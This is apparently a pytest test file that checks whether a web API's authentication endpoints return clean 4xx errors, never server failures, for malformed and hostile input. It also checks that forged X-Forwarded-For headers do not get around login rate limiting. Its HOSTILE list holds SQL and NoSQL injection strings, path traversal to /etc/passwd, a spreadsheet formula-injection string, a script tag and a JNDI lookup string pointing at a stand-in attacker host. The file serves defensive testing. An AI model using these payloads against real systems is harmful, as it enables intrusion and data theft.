"""What arrives on the internet: odd and hostile input to the open routes gives answers, not 5xx."""

import httpx2
import pytest

from tests.http.conftest import PASSWORD

HOSTILE = [
    '"\\ud800"',
    '"\\u0000"',
    '"' + "a" * 100_000 + '"',
    '"\' OR 1=1 --"',
    "\"ada@example.org' OR '1'='1\"",
    '"../../../etc/passwd"',
    "\"=cmd|' /C calc'!A0\"",
    '"<script>alert(1)</script>@example.org"',
    '"${jndi:ldap://evil.example/a}@example.org"',
    '{"$ne": null}',
    "[" * 200 + "]" * 200,
    "NaN",
    "1e999",
    "123456789012345678901234567890",
    "null",
    "true",
    '"\\u202e\\u200b@example.org"',
    '"Ａ＠example.org"',
]
FIELDS = {
    "/api/auth/register": ("email", "password", "display_name"),
    "/api/auth/login": ("email", "password"),
    "/api/auth/refresh": ("refresh_token",),
    "/api/auth/logout": ("refresh_token",),
    "/api/auth/password/forgot": ("email",),
    "/api/auth/password/reset": ("token", "new_password"),
    "/api/auth/verify-email": ("token",),
}
USUAL = {
    "email": '"eve@example.org"',
    "password": f'"{PASSWORD}"',
    "display_name": '"Eve"',
    "refresh_token": '"plr_x"',
    "token": '"plm_x"',
    "new_password": f'"{PASSWORD}"',
}


@pytest.mark.parametrize(
    ("path", "field"), [(path, field) for path, fields in FIELDS.items() for field in fields]
)
async def test_hostile_values_are_answered_without_failing(
    client: httpx2.AsyncClient, path: str, field: str
) -> None:
    for value in HOSTILE:
        fields = {name: USUAL[name] for name in FIELDS[path]} | {field: value}
        body = "{" + ", ".join(f'"{name}": {text}' for name, text in fields.items()) + "}"
        answer = await client.post(
            path, content=body.encode(), headers={"Content-Type": "application/json"}
        )
        assert answer.status_code < 500, (value[:60], answer.text)
        if answer.status_code >= 400:
            assert answer.headers["content-type"] == "application/problem+json"


@pytest.mark.parametrize("id", ["x", "...", "user:1", "é", "%00", "a" * 300, "'--"])
@pytest.mark.parametrize("path", ["/api/auth/sessions", "/api/users/me/tokens"])
async def test_an_id_that_cannot_be_is_not_found(
    client: httpx2.AsyncClient, ada: dict[str, str], path: str, id: str
) -> None:
    answer = await client.delete(f"{path}/{id}", headers=ada)
    assert answer.status_code in {404, 405}


async def test_a_forged_forwarding_header_does_not_move_the_guesser(
    client: httpx2.AsyncClient, ada: dict[str, str]
) -> None:
    """Each guess claims another origin; the account's own counter slows it down all the same."""
    statuses: list[int] = []
    for number in range(6):
        answer = await client.post(
            "/api/auth/login",
            json={"email": "ada@example.org", "password": "wrong-guess-0"},
            headers={"X-Forwarded-For": f"198.51.100.{number}, not an address"},
        )
        statuses.append(answer.status_code)
    assert statuses == [401] * 5 + [429]
